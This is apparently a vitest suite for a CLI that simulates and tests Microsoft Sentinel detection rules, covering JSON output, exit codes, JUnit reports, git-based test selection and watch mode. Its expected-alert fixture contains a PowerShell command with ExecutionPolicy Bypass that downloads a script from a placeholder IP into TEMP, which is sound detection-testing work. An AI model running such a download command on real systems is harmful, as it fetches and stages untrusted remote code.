// The commands end to end: `scac simulate --format json` (the JSON shape), `scac test` exit codes and
// --output-file, `--update` filling in new cases, `scac new` scaffolds that pass, `--watch` re-running.
import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { Ajv } from "ajv";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { scaffold } from "../../src/testing/scaffold.js";
import { runSession } from "../../src/testing/session.js";
import { watchTests } from "../../src/testing/watch.js";
import { HUNT_SECURITYEVENT, project, tempProject } from "./helpers.js";

const repo = resolve(import.meta.dirname, "../..");
function scac(args: string[], cwd = repo) {
  const r = spawnSync(process.execPath, ["--import", "tsx", join(repo, "src/cli.ts"), ...args], { cwd, encoding: "utf8" });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

// Spawned CLIs start Kusto.Language afresh (seconds each, more on a busy machine): generous timeouts.
const SPAWN_TIMEOUT = 180_000;

describe("scac simulate", { timeout: SPAWN_TIMEOUT }, () => {
  it("--format json prints rows, triggered and the alerts Sentinel would raise", () => {
    const r = scac([
      "simulate", "content/analytics/webserver-executing-suspicious-applications.yaml",
      "--table", "DeviceProcessEvents=content/fixtures/webserver/fp-log-rotation.jsonl",
      "--table", "DeviceProcessEvents=content/fixtures/webserver/case-variants.jsonl",
      "--now", "2026-11-20T12:00:00Z", "--param", "ExcludedDevices=[\"APACHE01.contoso.com\"]", "--format", "json",
    ]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const j = JSON.parse(r.stdout);
    expect(Object.keys(j)).toEqual(["rows", "triggered", "alerts"]);
    expect(j.rows).toBe(1); // log rotation is excluded by the default regex
    expect(j.triggered).toBe(true);
    expect(j.alerts).toEqual([{
      displayName: "PowerShell.exe launched by web server W3WP.EXE on web01.contoso.com",
      description: 'The web server process W3WP.EXE started PowerShell.exe: PowerShell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest http://203.0.113.50/a.ps1 -OutFile $env:TEMP\\a.ps1"',
      severity: "Medium",
      tactics: ["Execution", "Persistence"],
      entities: [
        { type: "Host", identifiers: { FullName: "web01.contoso.com" } },
        { type: "Process", identifiers: { CommandLine: 'PowerShell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest http://203.0.113.50/a.ps1 -OutFile $env:TEMP\\a.ps1"' } },
        { type: "File", identifiers: { Name: "PowerShell.exe" } },
        { type: "Account", identifiers: { Name: "contosoportal" } },
      ],
      customDetails: { WebServerProcess: ["W3WP.EXE"], ChildFolder: ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"], Instances: ["1"] },
    }]);
  });

  it("bad input is a clear message and a non-zero exit, never a stack trace", () => {
    const r = scac(["simulate", "content/hunting/webserver-executing-suspicious-applications.yaml", "--now", "2026-11-20T12:00:00Z"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/is a hunting query/);
  });
});

describe("scac test", { timeout: SPAWN_TIMEOUT }, () => {
  it("exits 1 on failures and writes JUnit to --output-file while printing the summary", () => {
    const out = join(tempProject({}), "junit.xml");
    const r = scac(["test", "content", "--reporter", "junit", "--output-file", out], project);
    expect(r.code).toBe(1);
    expect(readFileSync(out, "utf8")).toMatch(/^<\?xml/);
    expect(r.stdout).toContain("Tests: 5 passed, 2 failed, 2 diagnostic errors (7 cases)");
  });

  it("--workers 2 (main thread + a worker thread) gives the same results in the same order", () => {
    const one = JSON.parse(scac(["test", "content", "--reporter", "json", "--workers", "1"], project).stdout);
    const two = JSON.parse(scac(["test", "content", "--reporter", "json", "--workers", "2"], project).stdout);
    const view = (j: { results: { title: string; status: string; message?: string }[]; diagnostics: unknown[] }) => [j.results.map((r) => [r.title, r.status, r.message]), j.diagnostics];
    expect(view(two)).toEqual(view(one));
    expect(one.results).toHaveLength(7);
  });

  it("--changed selects test files whose test, content or fixture file changed (git)", async () => {
    const dir = tempProject({
      "a.yaml": HUNT_SECURITYEVENT,
      "a.test.yaml": "now: 2026-01-01T12:00:00Z\ncases:\n  - name: a\n    expect: { rows: 0 }\n",
      "b.yaml": HUNT_SECURITYEVENT.replace("6f0e2d1c-1111", "6f0e2d1c-1112"),
      "b.test.yaml": "now: 2026-01-01T12:00:00Z\ntables:\n  SecurityEvent: { file: ev.jsonl }\ncases:\n  - name: b\n    expect: { rows: 0 }\n",
      "ev.jsonl": "",
    });
    const git = (...a: string[]) => spawnSync("git", a, { cwd: dir, encoding: "utf8" });
    git("init", "-q");
    git("-c", "user.email=t@example.com", "-c", "user.name=t", "add", ".");
    git("-c", "user.email=t@example.com", "-c", "user.name=t", "commit", "-qm", "init");
    const { changedFiles } = await import("../../src/testing/session.js");
    expect([...changedFiles(undefined, dir)]).toEqual([]);
    expect((await runSession({ paths: [dir], schemaDirs: [], onlyChanged: changedFiles(undefined, dir) })).results).toEqual([]);
    writeFileSync(join(dir, "ev.jsonl"), '{"TimeGenerated":"2026-01-01T11:00:00Z","EventID":4624}\n');
    const s = await runSession({ paths: [dir], schemaDirs: [], onlyChanged: changedFiles(undefined, dir) });
    expect(s.results.map((r) => `${r.caseName} ${r.status}`)).toEqual(["b pass"]);
    // The gate then covers only b.yaml (a.yaml did not change): b has no positive case.
    expect(s.diagnostics.map((d) => `${d.file.replace(/^.*\//, "")} ${d.rule}`)).toEqual(["b.test.yaml test-coverage"]);
  });

  it("--update fills in observed results for cases without expect:, and they then pass", async () => {
    const dir = tempProject({
      "h.yaml": HUNT_SECURITYEVENT,
      "h.test.yaml": [
        "# comments survive the update",
        "now: 2026-01-01T12:00:00Z",
        "cases:",
        "  - name: new case",
        "    tables:",
        "      SecurityEvent:",
        "        - { TimeGenerated: now-1h, EventID: 4688, Computer: web01, CommandLine: whoami }",
        "        - { TimeGenerated: now-1h, EventID: 4624, Computer: web01 }",
        "  - name: existing case",
        "    expect: { rows: 0 }",
        "",
      ].join("\n"),
    });
    const first = await runSession({ paths: [dir], schemaDirs: [], update: true, coverage: { level: "off" } });
    expect(first.updatedFiles).toHaveLength(1);
    const text = readFileSync(join(dir, "h.test.yaml"), "utf8");
    expect(text).toContain("# comments survive the update");
    expect(parse(text).cases[0].expect).toEqual({ rows: 1, present: [{ TimeGenerated: "2026-01-01T11:00:00Z", Computer: "web01", CommandLine: "whoami" }] });
    expect(parse(text).cases[1].expect).toEqual({ rows: 0 });
    const again = await runSession({ paths: [dir], schemaDirs: [], coverage: { level: "off" } });
    expect(again.results.map((r) => r.status)).toEqual(["pass", "pass"]);
  });
});

describe("scac new", { timeout: SPAWN_TIMEOUT }, () => {
  for (const kind of ["hunting", "analytics"] as const) {
    it(`${kind}: a valid content file with a fresh GUID and a test file whose two cases pass and meet the coverage gate`, async () => {
      const dir = tempProject({});
      const a = scaffold(kind, "Encoded PowerShell: Web Servers", dir);
      const b = scaffold(kind, "Encoded PowerShell: Web Servers", dir);
      expect(a.contentPath).toBe(join(dir, "encoded-powershell-web-servers.yaml"));
      expect(parse(a.content).id).not.toBe(parse(b.content).id);
      writeFileSync(a.contentPath, a.content);
      writeFileSync(a.testPath, a.test);
      const schema = JSON.parse(readFileSync(join(repo, "data/json-schema/content.schema.json"), "utf8"));
      const validate = new Ajv({ strict: false }).compile(schema);
      expect(validate(parse(a.content)), JSON.stringify(validate.errors)).toBe(true);
      const s = await runSession({ paths: [dir], schemaDirs: [] });
      expect(s.results.map((r) => [r.status, r.kind])).toEqual([["pass", "positive"], ["pass", "negative"]]);
      expect(s.diagnostics).toEqual([]);
    });
  }
});

describe("scac test --watch", () => {
  it("re-runs the affected test file when its content changes", async () => {
    const dir = tempProject({
      "h.yaml": HUNT_SECURITYEVENT,
      "h.test.yaml": "now: 2026-01-01T12:00:00Z\ncases:\n  - name: c\n    tables:\n      SecurityEvent: [{ TimeGenerated: now-1h, EventID: 4688, Computer: a }]\n    expect: { rows: 1 }\n",
    });
    const ac = new AbortController();
    let out = "";
    const rerun = new Promise<void>((res) => {
      const done = watchTests({ paths: [dir], schemaDirs: [], coverage: { level: "off" } }, (t) => {
        out += t;
        if (out.includes("Watching for changes")) {
          if (!out.includes("re-ran")) setTimeout(() => writeFileSync(join(dir, "h.yaml"), HUNT_SECURITYEVENT.replace("4688", "4624")), 100);
        }
        if (out.includes("Tests: 0 passed, 1 failed")) { ac.abort(); res(); }
      }, "default", ac.signal);
      void done;
    });
    await rerun;
    expect(out).toMatch(/Tests: 1 passed \(1 cases\)/);
    expect(out).toMatch(/— re-ran 1 test file after changes to .*h\.yaml/);
    expect(out).toContain("✗ rows: expected 1 row, got 0");
  }, 30_000);
});

